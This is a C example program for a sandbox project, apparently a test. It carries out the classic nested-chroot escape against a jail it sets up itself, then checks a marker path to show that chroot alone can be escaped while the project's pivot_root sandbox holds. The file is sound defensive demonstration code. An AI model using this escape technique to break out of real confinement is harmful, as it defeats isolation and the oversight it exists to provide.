/* chroot-escape.c - the classic nested-chroot escape, for examples/07.
 *
 * A process with CAP_SYS_CHROOT that is chrooted can leave: chroot into a
 * subdirectory while keeping its working directory outside the new root,
 * then chdir("..") up to the real root and chroot(".") there.  That is why
 * chroot alone is no sandbox.  This program first puts itself in a chroot
 * jail (/tmp/jail), escapes from it, then looks for MARKER, a path that exists
 * on the host but not in the sandbox's root: sbx's pivot_root into a mount
 * namespace of its own leaves nothing above the sandbox's root to escape to.
 *
 * Usage: chroot-escape MARKER      (exit 0: still inside; 2: reached MARKER)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void list_root(const char *when)
{
	DIR *d = opendir("/");
	struct dirent *e;

	printf("%s, / holds:", when);
	if (!d) {
		printf(" (cannot list: %s)\n", strerror(errno));
		return;
	}
	while ((e = readdir(d)))
		if (e->d_name[0] != '.')
			printf(" %s", e->d_name);
	printf("\n");
	closedir(d);
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: %s MARKER\n", argv[0]);
		return 1;
	}
	if ((mkdir("/tmp/jail", 0755) < 0 && errno != EEXIST) || mkdir("/tmp/jail/in-the-jail", 0755) < 0) {
		perror("mkdir /tmp/jail");
		return 1;
	}
	if (chroot("/tmp/jail") < 0 || chdir("/") < 0) {
		printf("chroot /tmp/jail: %s (refused, so there is nothing to escape from)\n", strerror(errno));
		return 1;
	}
	list_root("in the jail");

	/* The escape: a new root below the cwd, then up and out. */
	if (mkdir("x", 0755) < 0 || chroot("x") < 0) {
		printf("chroot x: %s\n", strerror(errno));
		return 1;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		printf("chroot .: %s\n", strerror(errno));
		return 1;
	}
	list_root("after the escape");
	if (access(argv[1], F_OK) == 0) {
		printf("ESCAPED: %s is visible, this is the host's root\n", argv[1]);
		return 2;
	}
	printf("out of the jail, but %s is not there: still inside the sandbox's root\n", argv[1]);
	return 0;
}
